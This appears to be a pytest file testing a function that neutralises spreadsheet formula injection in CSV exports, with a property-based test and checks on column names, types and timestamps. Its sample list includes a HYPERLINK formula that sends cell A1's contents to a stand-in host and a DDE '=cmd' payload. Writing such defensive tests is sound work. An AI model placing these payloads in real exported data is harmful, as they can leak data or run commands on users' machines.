"""Text for spreadsheets: nothing runs, and nothing else changes."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from polars.testing import assert_frame_equal

from scoring.spreadsheet import neutralise, write_list

RUNS = (
    '=HYPERLINK("http://x.example/?"&A1,"here")',
    "=cmd|'/c calc'!A1",
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\t=1+1",
    "\tAnn",
    "\rAnn",
    "\nAnn",
    "  =1+1",
    "\u200f=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\u00a0=1+1",
)
HARMLESS = (
    "Ann Lee-Smith",
    "O'Neil",
    "",
    "a = b",
    "last wrote 3 days ago (+0.26); wrote no mail (-0.30)",
    "<script>alert(1)</script>",
    "\u05d0\u05d1\u200f",
    "\u202eAnn",
    "😀 Ann",
    "👩\u200d💻",
    "1+1",
    "a;b",
    "  Ann",
    '"Ann"',
)


def runs(cell: str) -> bool:
    """Whether a spreadsheet may run a cell, told in plain Python."""
    seen = "".join(char for char in cell if not char.isspace() and unicodedata.category(char) not in ("Cc", "Cf"))
    return seen.startswith(tuple("=+-@＝＋－＠")) or cell.startswith(("\t", "\r", "\n"))


def neutral(cell: str) -> str:
    return str(neutralise(pl.DataFrame({"text": [cell]}))["text"].item())


@pytest.mark.parametrize("cell", RUNS)
def test_what_would_run_has_a_quote_before_it(cell: str) -> None:
    assert runs(cell)
    found = neutral(cell)
    assert found != cell
    assert found.replace("'", "") == cell.replace("'", "")
    assert not runs(found)


@pytest.mark.parametrize("cell", HARMLESS)
def test_the_rest_is_as_it_was(cell: str) -> None:
    assert neutral(cell) == cell


@pytest.mark.parametrize("cell", ['Ann"; =1+1', "Ann;+1", "Ann\n-1", "Ann\r\n@A1", "a;=1;=2", ";;=1", "\n\n=1"])
def test_no_cell_starts_within_another(cell: str) -> None:
    assert not any(runs(part) for part in re.split("[;\t\r\n]", neutral(cell)))


@settings(deadline=None)
@given(st.lists(st.text(alphabet="=+-@＝ \t\r\n;,'\"a1\u200f\u202e\x00", max_size=8), max_size=20))
def test_nothing_runs_whatever_it_holds(cells: list[str]) -> None:
    frame = pl.DataFrame({"text": cells}, schema={"text": pl.String})
    once = neutralise(frame)
    assert not any(runs(part) for cell in once["text"] for part in re.split("[;\t\r\n]", cell))
    assert not any(map(runs, once["text"]))
    assert_frame_equal(neutralise(once), once)
    assert [cell.replace("'", "") for cell in once["text"]] == [cell.replace("'", "") for cell in cells]


def test_only_text_changes(scored: pl.DataFrame) -> None:
    noted = scored.with_columns(moved=-pl.col("priority"), nothing=pl.lit(None, dtype=pl.String))
    changed = neutralise(noted)
    others = [name for name, dtype in noted.schema.items() if dtype != pl.String]
    assert {"moved", "as_of", "tier", "from_cc"} <= set(others)
    assert_frame_equal(changed.select(others), noted.select(others))
    assert changed["nothing"].null_count() == changed.height
    assert changed["reasons"].equals(noted["reasons"])


def test_categories_and_names_of_columns_are_text_too() -> None:
    kinds = pl.Series("=A1", ["=1", "x", None], dtype=pl.Categorical)
    changed = neutralise(kinds.to_frame())
    assert changed.columns == ["'=A1"]
    assert changed.to_series().to_list() == ["'=1", "x", None]
    assert neutralise(pl.DataFrame({"=a": [1], "'=a": [2]})).columns == ["=a", "'=a"]


def test_no_columns_and_no_rows() -> None:
    assert neutralise(pl.DataFrame()).is_empty()
    assert neutralise(pl.DataFrame({"name": []}, schema={"name": pl.String})).shape == (0, 1)


def test_a_file_of_it_holds_no_formula() -> None:
    frame = pl.DataFrame({"name": [*RUNS, *HARMLESS], "number": range(len(RUNS) + len(HARMLESS))})
    text = neutralise(frame).write_csv()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1 + frame.height
    assert not any(runs(cell) for row in rows for cell in row)


@pytest.mark.parametrize("ending", [".csv", ".csv.gz", ".CSV"])
def test_lists_that_are_csv_are_made_safe(ending: str, tmp_path: Path) -> None:
    frame = pl.DataFrame({"name": RUNS[:5], "number": [-1.5, 2, 3, 4, 5]})
    path = tmp_path / f"list{ending}"
    write_list(frame, path)
    found = pl.read_csv(path)
    assert found["name"].to_list() == [f"'{cell}" for cell in RUNS[:5]]
    assert found["number"].to_list() == frame["number"].to_list()


@pytest.mark.parametrize("ending", [".parquet", ".ndjson", ".json"])
def test_other_lists_are_as_they_are(ending: str, tmp_path: Path) -> None:
    path = tmp_path / f"list{ending}"
    write_list(pl.DataFrame({"name": RUNS[:5]}), path)
    read = {".parquet": pl.read_parquet, ".ndjson": pl.read_ndjson, ".json": pl.read_json}[ending]
    assert read(path)["name"].to_list() == list(RUNS[:5])


def test_times_in_a_csv_are_such_as_a_spreadsheet_understands(tmp_path: Path) -> None:
    when = datetime(2026, 1, 5, 9, 30, 59, tzinfo=UTC)
    abroad = when.astimezone(ZoneInfo("Asia/Kolkata"))
    frame = pl.DataFrame({"last_touch": [when, None], "there": [abroad, None]})
    write_list(frame, tmp_path / "list.csv")
    rows = (tmp_path / "list.csv").read_text("utf-8").splitlines()
    assert rows == ["last_touch,there", "2026-01-05 09:30,2026-01-05 09:30", ","]
    write_list(frame, tmp_path / "list.parquet")
    assert pl.read_parquet(tmp_path / "list.parquet")["last_touch"][0] == when
